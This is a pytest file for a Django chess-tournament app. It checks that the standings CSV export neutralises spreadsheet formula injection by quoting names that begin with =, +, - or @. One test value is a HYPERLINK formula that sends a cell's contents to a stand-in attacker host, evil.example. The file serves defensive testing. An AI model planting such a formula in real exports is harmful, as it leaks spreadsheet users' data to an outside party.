"""The standings CSV never hands a spreadsheet a formula (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from tests import builders
from tournaments.store import commands

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Prize list")'


def csv_rows(tid: int) -> list[list[str]]:
    response = APIClient().get(reverse("tournaments:standings-csv", args=[tid]))
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))[1:]


def with_player(name: str) -> int:
    tid = builders.build_tournament(players=0, rounds=1)
    commands.register_player(tid, {"name": name, "rating": 1800}, author=builders.organiser())
    return tid


@pytest.mark.parametrize("name", [HYPERLINK, "+1 555 0100", "-2+3", "@SUM(A1:A9)", "=1+1"])
def test_a_name_that_starts_like_a_formula_is_written_as_text(name: str) -> None:
    (row,) = csv_rows(with_player(name))
    assert row[3] == "'" + name


def test_an_ordinary_name_and_the_numbers_are_written_as_they_are() -> None:
    (row,) = csv_rows(with_player("Anna-Maria O'Neill"))
    # rank 1, place 1, start rank 1, the name, rating 1800, no federation, 0 points
    assert row[:7] == ["1", "1", "1", "Anna-Maria O'Neill", "1800", "", "0.0"]
